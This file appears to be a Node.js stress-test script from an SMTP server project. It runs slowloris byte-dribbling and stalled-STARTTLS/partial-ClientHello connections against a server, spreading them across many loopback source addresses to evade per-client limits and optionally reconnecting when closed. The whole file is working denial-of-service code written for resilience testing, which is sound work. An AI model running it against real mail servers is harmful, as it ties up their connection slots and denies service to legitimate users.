#!/usr/bin/env node
// Hostile SMTP clients for bench/slowloris.sh (issue 16, item 4): connections that hold a slot and
// cost the server as little as they can, spread over many loopback source addresses so that a
// per-client connection limit does not trivially refuse them.
//   slowloris:  connect, wait for the 220, then send one byte every --interval seconds of a
//               command line that never ends ("EHLO sss…", no CRLF within any run's length).
//   tls-idle:   connect, EHLO, STARTTLS, wait for the 220, then send nothing (even-numbered) or the
//               first 20 bytes of a ClientHello whose record header announces 512 (odd-numbered).
// Usage: node hostile.js --port P [--host 127.0.0.1] [--slowloris 2500] [--tls-idle 2500]
//        [--per-source 20] [--first-source 127.0.0.2] [--interval 10] [--rate 500] [--report 5] [--reconnect]
// --reconnect: a connection the server closes is opened again (from the same address) a second later, as an
// attacker who wants to keep the slots would; the server's closes are still counted.
// Runs until SIGTERM or SIGINT. Prints one JSON line every --report seconds and a last one (final: true):
// open now and at peak (TCP established, by kind), how many reached their hostile phase, how many the
// server closed (with the median and maximum seconds from the hostile phase's start to the close),
// and connect errors by message.
'use strict';
const net = require('net');

const argv = process.argv.slice(2), opt = { host: '127.0.0.1', port: 0, slowloris: 2500, tlsIdle: 2500,
  perSource: 20, firstSource: '127.0.0.2', interval: 10, rate: 500, report: 5, reconnect: false };
for (let i = 0; i < argv.length; i++) {
  const a = argv[i], v = () => argv[++i];
  if (a === '--host') opt.host = v(); else if (a === '--port') opt.port = +v();
  else if (a === '--slowloris') opt.slowloris = +v(); else if (a === '--tls-idle') opt.tlsIdle = +v();
  else if (a === '--per-source') opt.perSource = +v(); else if (a === '--first-source') opt.firstSource = v();
  else if (a === '--interval') opt.interval = +v(); else if (a === '--rate') opt.rate = +v();
  else if (a === '--report') opt.report = +v(); else if (a === '--reconnect') opt.reconnect = true;
  else { console.error('unknown option ' + a); process.exit(2); }
}
if (!opt.port) { console.error('--port is required'); process.exit(2); }

const ipToInt = s => s.split('.').reduce((n, o) => n * 256 + +o, 0);
const intToIp = n => [n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255].join('.');
const first = ipToInt(opt.firstSource);
const source = i => intToIp(first + Math.floor(i / opt.perSource));

// A TLS 1.2 record header announcing a 512-byte handshake message, then the start of a ClientHello:
// the server has to keep the partial record and wait for the rest, which never comes.
const partialHello = Buffer.from('160301020001000200fc0303' + '00'.repeat(8), 'hex');
const dribble = 'EHLO ' + 's'.repeat(4096);

const kinds = ['slowloris', 'tls-idle'];
const stat = {};
for (const k of kinds) stat[k] = { open: 0, peak: 0, hostile: 0, closedByServer: 0, lifetimes: [], errors: {} };
let peakTotal = 0, stopping = false, tlsCount = 0;
const sockets = new Set();

function track(kind, sock, again) {
  const s = stat[kind];
  let phaseAt = null, open = false;
  sockets.add(sock);
  sock.on('connect', () => {
    open = true; s.open++; s.peak = Math.max(s.peak, s.open);
    peakTotal = Math.max(peakTotal, stat.slowloris.open + stat['tls-idle'].open);
  });
  sock.on('error', e => { if (!open) { const m = String(e.code || e.message); s.errors[m] = (s.errors[m] || 0) + 1; } });
  sock.on('close', () => {
    sockets.delete(sock);
    if (open) s.open--;
    if (open && !stopping) { s.closedByServer++; if (phaseAt) s.lifetimes.push((Date.now() - phaseAt) / 1000); }
    if (opt.reconnect && !stopping) setTimeout(again, 1000);
  });
  return () => { phaseAt = Date.now(); s.hostile++; };
}

// Calls back once a reply line starting with `code` and a space has arrived (multi-line replies end so).
function expectReply(sock, code, then) {
  let buf = '';
  const on = d => {
    buf += d.toString('latin1');
    if (buf.split('\r\n').some(l => l.startsWith(code + ' '))) { sock.removeListener('data', on); then(); }
  };
  sock.on('data', on);
}

function slowloris(i) {
  const sock = net.connect({ host: opt.host, port: opt.port, localAddress: source(i) });
  const begin = track('slowloris', sock, () => slowloris(i));
  expectReply(sock, '220', () => {
    begin();
    let at = 0, timer = null;
    const step = () => { if (!sock.destroyed) sock.write(dribble[at++ % dribble.length]); };
    // Spread the first byte over one interval so the bytes of thousands of clients do not come in bursts.
    const start = setTimeout(() => { step(); timer = setInterval(step, opt.interval * 1000); }, Math.random() * opt.interval * 1000);
    sock.on('close', () => { clearTimeout(start); clearInterval(timer); });
  });
}

function tlsIdle(i) {
  const sock = net.connect({ host: opt.host, port: opt.port, localAddress: source(i) });
  const begin = track('tls-idle', sock, () => tlsIdle(i)), partial = tlsCount++ % 2 === 1;
  expectReply(sock, '220', () => {
    sock.write('EHLO idle.example\r\n');
    expectReply(sock, '250', () => {
      sock.write('STARTTLS\r\n');
      expectReply(sock, '220', () => { begin(); if (partial) sock.write(partialHello); });
    });
  });
}

function summary(final) {
  const out = { t: new Date().toISOString(), final, peakTotal };
  for (const k of kinds) {
    const s = stat[k], l = [...s.lifetimes].sort((a, b) => a - b);
    out[k] = { open: s.open, peak: s.peak, hostile: s.hostile, closedByServer: s.closedByServer,
      closedAfterSeconds: l.length ? { p50: +l[Math.floor(l.length / 2)].toFixed(1), max: +l[l.length - 1].toFixed(1) } : null,
      connectErrors: s.errors };
  }
  console.log(JSON.stringify(out));
}

// Open at --rate per second, slowloris and tls-idle interleaved, --per-source connections per source address.
const total = opt.slowloris + opt.tlsIdle;
let next = 0;
const opener = setInterval(() => {
  for (let k = 0; k < Math.max(1, opt.rate / 20) && next < total; k++, next++) {
    if (next % 2 === 0 && next / 2 < opt.slowloris) slowloris(next);
    else if (Math.floor(next / 2) < opt.tlsIdle) tlsIdle(next);
    else slowloris(next);
  }
  if (next >= total) clearInterval(opener);
}, 50);
const reporter = setInterval(() => summary(false), opt.report * 1000);
const stop = () => {
  if (stopping) return;
  stopping = true; clearInterval(opener); clearInterval(reporter);
  summary(true);
  for (const s of sockets) s.destroy();
  process.exit(0);
};
process.on('SIGTERM', stop);
process.on('SIGINT', stop);
